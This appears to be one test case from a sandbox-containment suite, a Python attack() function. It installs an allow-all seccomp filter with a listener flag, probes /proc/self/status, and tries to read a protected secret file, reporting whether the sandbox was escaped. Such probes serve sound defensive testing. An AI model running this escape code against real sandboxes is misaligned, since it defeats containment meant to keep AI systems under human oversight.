"""Install an allow-all filter / steal the notification listener."""

META = {"group": "channel", "seen": "native:seccomp"}


def attack():
    import struct
    f = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7fff0000), 8); p = struct.pack("HxxxxxxQ", 1, ctypes.addressof(f))
    had = [l.split()[1] for l in open("/proc/self/status") if l.startswith("Seccomp:")] if os.path.exists("/proc/self/status") else ["?"]
    r, e = sysc("seccomp", 1, 8, p)
    try: d = open(T["secret_file"]).read()
    except OSError: d = ""
    return "ESCAPED: read after override" if T["secret"] in d else f"contained: listener {r},{e}; seccomp mode {had}"
